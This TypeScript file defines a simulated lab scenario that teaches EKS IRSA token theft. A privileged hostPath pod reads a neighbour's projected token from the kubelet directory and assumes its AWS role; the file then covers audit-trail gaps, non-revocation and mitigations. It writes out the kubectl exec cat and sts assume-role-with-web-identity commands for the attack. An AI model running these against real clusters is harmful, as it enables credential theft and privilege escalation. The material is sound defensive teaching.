/**
 * token-theft: a privileged pod with a hostPath on /var/lib/kubelet reads a
 * co-located pod's projected token and assumes its role. CloudTrail shows
 * only the ServiceAccount; deleting the victim pod does not stop STS from
 * accepting the token. Mitigation: no hostPath/privileged for workloads.
 */

import { IRSA_AUDIENCE, IRSA_TOKEN_FILE, IRSA_VOLUME_NAME } from '@irsa-lab/core';
import type { World } from '@irsa-lab/world';
import { decodeJwt } from 'jose';
import type { ScenarioDef } from '../../engine/types.js';
import { resolveInPod } from '../../panels/actions.js';
import { check, cloudtrailPanel, tokenPanel } from '../../panels/panels.js';
import { createBillingReader } from '../kit/billing.js';
import { chainErrorCode } from '../kit/chain.js';
import { webIdentityRecords } from '../kit/cloudtrail.js';
import { BUSYBOX_IMAGE, podYaml } from '../kit/manifests.js';
import { AWS_CLI, assumeRoleWithWebIdentity } from '../kit/sts.js';
import { textPanel } from '../kit/text-panels.js';
import { IMDS_LOCKED_DOWN, nodeName, podView, WORKER_NODE_POLICIES, worldWithNode } from '../kit/worlds.js';

const PODS = '/var/lib/kubelet/pods';
const tokenPath = (uid: string) =>
  `/host${PODS}/${uid}/volumes/kubernetes.io~projected/${IRSA_VOLUME_NAME}/${IRSA_TOKEN_FILE}`;
const debugView = (world: World) => podView(world, 'tools', 'debug');
/** The debug pod: privileged with the kubelet directory mounted (and its Namespace first) when `escalated`. */
const debugYaml = (world: World, escalated: boolean) =>
  podYaml({
    namespace: 'tools',
    pod: 'debug',
    serviceAccount: 'default',
    image: BUSYBOX_IMAGE,
    withNamespace: escalated,
    withServiceAccount: false,
    nodeName: nodeName(world),
    ...(escalated ? { hostPath: '/var/lib/kubelet', privileged: true } : {}),
  });
/** payments/billing-api, IRSA through ServiceAccount billing (`first`: with its Namespace and ServiceAccount). */
const billingYaml = (world: World, roleArn: string, first: boolean) =>
  podYaml({
    namespace: 'payments',
    pod: 'billing-api',
    serviceAccount: 'billing',
    image: BUSYBOX_IMAGE,
    withNamespace: first,
    withServiceAccount: first,
    roleArn,
    nodeName: nodeName(world),
  });

/** What the steps share: the role, and the token the debug pod took (empty if it found none). */
type State = { roleArn: string; stolen: string };

export const tokenTheft: ScenarioDef<World, State> = {
  id: 'token-theft',
  title: 'Token theft: containers are not a security boundary',
  group: 'attacks',
  goal: "A privileged hostPath pod reads a neighbour's projected token and assumes its role; the audit trail cannot tell",
  lesson:
    'Whoever holds a projected token is that ServiceAccount to STS. Pods with hostPath or privileged access on the same node can take every token there; CloudTrail records the ServiceAccount, never the pod.',
  sources: [
    { label: 'Reference: pod security', href: 'docs/reference.md#pod-security' },
    {
      label: 'EKS user guide, IAM roles for service accounts',
      href: 'https://docs.aws.amazon.com/eks/latest/userguide/iam-roles-for-service-accounts.html',
    },
    {
      label: 'Datadog Security Labs, attacking and securing cloud identities in EKS',
      href: 'https://securitylabs.datadoghq.com/articles/amazon-eks-attacking-securing-cloud-identities/',
    },
    { label: 'Reference: the CloudTrail record', href: 'docs/reference.md#cloudtrail' },
    {
      label: 'Datadog managed-kubernetes-auditing-toolkit',
      href: 'https://github.com/DataDog/managed-kubernetes-auditing-toolkit',
    },
    {
      label: 'Kubernetes, Pod Security Standards',
      href: 'https://kubernetes.io/docs/concepts/security/pod-security-standards/',
    },
  ],
  simplifications: [
    '`ls` shows the host directory the hostPath exposes, read from the node filesystem.',
    'Pod Security admission and policy engines are not simulated: the mitigation step shows the pod they would force, and lists the others as text.',
    'CloudTrail records carry a lab-only irsaLab.tokenJti field; real CloudTrail does not log the token id.',
  ],
  setup: (seed) =>
    worldWithNode(seed, {
      metadataOptions: IMDS_LOCKED_DOWN,
      instanceRolePolicies: WORKER_NODE_POLICIES,
      oidcProvider: true,
    }),
  steps: [
    {
      id: 'victim-pod',
      title: 'payments/billing-api runs with IRSA',
      narration:
        'billing-api uses IRSA as it should; its SDK exchanges the projected token for billing-reader. IMDS is locked down, so the node role is out of reach for pods: the token is the prize.',
      async run({ world, state }) {
        state.roleArn = createBillingReader(world);
        await world.apply(billingYaml(world, state.roleArn, true), 'billing.yaml');
        const got = await resolveInPod(world, 'payments', 'billing-api');
        return {
          action: 'kubectl apply -f billing.yaml && SDK default chain in payments/billing-api',
          outcome: got.result.ok ? 'allowed' : 'denied',
          summary: `billing-api holds ${got.roleArn ?? 'nothing'}.`,
          panels: got.panels,
          decision: got.decision,
          checks: [check('role obtained', state.roleArn, got.roleArn)],
        };
      },
    },
    {
      id: 'debug-pod',
      title: 'A privileged debug pod lands on the same node',
      narration:
        'Someone runs a "debug" pod in the tools namespace: privileged, with /var/lib/kubelet from the host mounted at /host/var/lib/kubelet. It has no AWS identity of its own: no IRSA, and IMDS is closed to pods.',
      async run({ world }) {
        const yaml = debugYaml(world, true);
        await world.apply(yaml, 'debug.yaml');
        const got = await resolveInPod(world, 'tools', 'debug');
        return {
          action: 'kubectl apply -f debug.yaml && SDK default chain in tools/debug',
          outcome: got.result.ok ? 'allowed' : 'denied',
          summary: got.result.ok
            ? `Unexpectedly got ${got.roleArn}.`
            : `tools/debug has no credentials: ${chainErrorCode(got.result)}.`,
          panels: [textPanel('debug.yaml', yaml), ...got.panels],
          decision: got.decision,
          checks: [
            check('debug pod credentials', 'CHAIN_NO_CREDENTIALS', chainErrorCode(got.result)),
            check(
              'same node as billing-api',
              world.nodeOf('payments', 'billing-api').name,
              world.nodeOf('tools', 'debug').name,
            ),
          ],
        };
      },
    },
    {
      id: 'read-token',
      kind: 'break',
      title: "Read the neighbour's token from the kubelet directory",
      narration:
        'The kubelet writes every projected token under /var/lib/kubelet/pods/<pod uid>/volumes/kubernetes.io~projected/<volume>/token. From the debug pod that is /host/..., one ls and one cat away.',
      async run({ world, state }) {
        const node = world.nodeOf('tools', 'debug');
        const uids = node.fs.list(PODS);
        const view = debugView(world);
        const found = uids.map((uid) => ({ uid, token: view.readFile(tokenPath(uid)) })).find((f) => f.token);
        state.stolen = found?.token ?? '';
        const claims = found?.token ? decodeJwt(found.token) : {};
        const pod = (claims['kubernetes.io'] as { pod?: { name?: string } } | undefined)?.pod?.name;
        return {
          action: `kubectl exec -n tools debug -- sh -c 'ls /host${PODS}; cat /host${PODS}/*/volumes/kubernetes.io~projected/${IRSA_VOLUME_NAME}/${IRSA_TOKEN_FILE}'`,
          outcome: 'info',
          summary: found ? `Found the token of pod ${pod} (${claims.sub}).` : 'No token found.',
          panels: [
            textPanel(`ls /host${PODS}`, uids),
            ...(found?.token ? [tokenPanel(tokenPath(found.uid), found.token)] : []),
          ],
          checks: [
            check('stolen token subject', 'system:serviceaccount:payments:billing', String(claims.sub)),
            check('token names its pod', 'billing-api', pod),
          ],
        };
      },
    },
    {
      id: 'assume-role',
      kind: 'break',
      title: 'Assume billing-reader with the stolen token',
      narration:
        'The role ARN is no secret (it is in the ServiceAccount annotation). STS checks the signature, the audience and the trust policy: all fine, the token really is system:serviceaccount:payments:billing. Who presents it does not matter.',
      async run({ world, state }) {
        const call = await assumeRoleWithWebIdentity(world, AWS_CLI, debugView(world), {
          roleArn: state.roleArn,
          token: state.stolen,
          sessionName: 'totally-billing',
        });
        const session = call.accessKeyId ? world.iam.lookupAccessKey(call.accessKeyId) : undefined;
        return {
          action: `kubectl exec -n tools debug -- aws sts assume-role-with-web-identity --role-arn ${state.roleArn} --role-session-name totally-billing --web-identity-token file://stolen`,
          outcome: call.ok ? 'allowed' : 'denied',
          summary: call.ok ? `tools/debug now holds ${call.assumedRoleArn}.` : `${call.code}: ${call.message}`,
          panels: call.panels,
          decision: call.decision,
          checks: [
            check('role assumed', state.roleArn, session?.roleArn),
            check('as subject', 'system:serviceaccount:payments:billing', session?.webIdentity?.sub),
          ],
        };
      },
    },
    {
      id: 'audit-trail',
      title: 'The audit trail names the ServiceAccount, not the pod',
      narration:
        "Compare billing-api's own call with the thief's: same userName, same principalId, same token jti. No pod name anywhere. Even the jti (a lab-only field here) leads back to billing-api, the victim. What differs is what the thief chose or could not hide: the source IP (pod IPs are reused), the role session name it picked, and its user agent; none of them names a pod.",
      async run({ world }) {
        const [own, stolen] = webIdentityRecords(world).slice(-2);
        const issued = world.log.all('k8s.token-issued').map((e) => e.data);
        const jtiPod = issued.find((e) => e.jti && e.jti === stolen?.irsaLab?.tokenJti)?.pod;
        const json = JSON.stringify([own, stolen]);
        return {
          action:
            'aws cloudtrail lookup-events --lookup-attributes AttributeKey=ResourceName,AttributeValue=billing-reader',
          outcome: 'info',
          summary: `Both calls: ${stolen?.userIdentity.userName}; sources ${own?.sourceIPAddress} and ${stolen?.sourceIPAddress}.`,
          panels: [cloudtrailPanel(world, 2)],
          checks: [
            check('same userName', String(own?.userIdentity.userName), stolen?.userIdentity.userName),
            check('same principalId', String(own?.userIdentity.principalId), stolen?.userIdentity.principalId),
            check('pod names in the records', 'none', /billing-api|debug/.test(json) ? 'found' : 'none'),
            check('the jti leads to', 'payments/billing-api', jtiPod),
            check('source IPs differ', 'yes', own?.sourceIPAddress !== stolen?.sourceIPAddress ? 'yes' : 'no'),
          ],
        };
      },
    },
    {
      id: 'delete-victim',
      title: 'Deleting the victim pod does not revoke the token for STS',
      narration:
        'Incident response deletes billing-api. The apiserver now refuses the token (its pod is gone), but STS never asks the apiserver: it checks the signature and exp against the issuer keys, so the stolen token keeps working until it expires (24 h for IRSA tokens).',
      async run({ world, state }) {
        world.deletePod('payments', 'billing-api');
        const review = await world.api.reviewToken(state.stolen, [IRSA_AUDIENCE]);
        const call = await assumeRoleWithWebIdentity(world, AWS_CLI, debugView(world), {
          roleArn: state.roleArn,
          token: state.stolen,
          sessionName: 'still-billing',
        });
        return {
          action:
            'kubectl delete pod billing-api -n payments; aws sts assume-role-with-web-identity ... --web-identity-token file://stolen',
          outcome: call.ok ? 'allowed' : 'denied',
          summary: `apiserver: ${review.authenticated ? 'accepted' : review.error}; STS: ${call.ok ? 'still accepted' : call.code}.`,
          panels: [
            textPanel('TokenReview', [`authenticated: ${review.authenticated}`, `error: ${review.error ?? ''}`]),
            ...call.panels,
          ],
          decision: call.decision,
          checks: [
            check('apiserver TokenReview', 'service account token has been invalidated', review.error),
            check('STS still accepts', 'yes', call.ok ? 'yes' : 'no'),
          ],
        };
      },
    },
    {
      id: 'mitigations',
      kind: 'fix',
      title: 'Mitigation: no hostPath, no privileged for workloads',
      narration:
        'Pod Security admission at baseline (or a policy engine) refuses hostPath volumes and privileged containers. That admission is not simulated here: we re-create the debug pod as it would force it. billing-api is back on the same node, and its token is out of reach.',
      async run({ world, state }) {
        world.deletePod('tools', 'debug');
        await world.apply(debugYaml(world, false), 'debug.yaml');
        await world.apply(billingYaml(world, state.roleArn, false), 'billing.yaml');
        const node = world.nodeOf('tools', 'debug');
        const uids = node.fs.list(PODS);
        const onHost = uids.filter((uid) => node.fs.exists(tokenPath(uid).slice('/host'.length)));
        const view = debugView(world);
        const leaked = uids.filter((uid) => view.readFile(tokenPath(uid)) !== undefined);
        return {
          action:
            'kubectl label namespace tools pod-security.kubernetes.io/enforce=baseline  # not simulated; debug pod re-created without hostPath',
          outcome: leaked.length ? 'allowed' : 'denied',
          summary: leaked.length
            ? `Still readable: ${leaked.join(', ')}.`
            : 'No token file is reachable from the debug pod.',
          decision: {
            title: 'Can tools/debug read a projected token on its node?',
            allowed: leaked.length > 0,
            lines: [
              { depth: 0, text: `the node holds ${onHost.length} aws-iam-token file(s) under ${PODS}` },
              { depth: 0, text: 'tools/debug has no hostPath volume and is not privileged', ok: true },
              ...uids.map((uid) => ({
                depth: 1,
                text: `cat ${tokenPath(uid)}: ${leaked.includes(uid) ? 'readable' : 'No such file or directory'}`,
                ok: !leaked.includes(uid),
              })),
            ],
          },
          panels: [
            textPanel('Mitigations', [
              'Enforce Pod Security Standards baseline (no hostPath, privileged, hostPID) [not simulated]',
              'Keep untrusted or debug workloads off nodes that run sensitive IRSA pods (taints, node pools) [not simulated]',
              'Shorten the token lifetime: eks.amazonaws.com/token-expiration (minimum 600 s) bounds how long a stolen token works',
              'Alert on AssumeRoleWithWebIdentity from unexpected source IPs or session names',
            ]),
          ],
          checks: [
            check('token files on the node', '1', String(onHost.length)),
            check('token files readable from debug', '0', String(leaked.length)),
          ],
        };
      },
    },
  ],
};
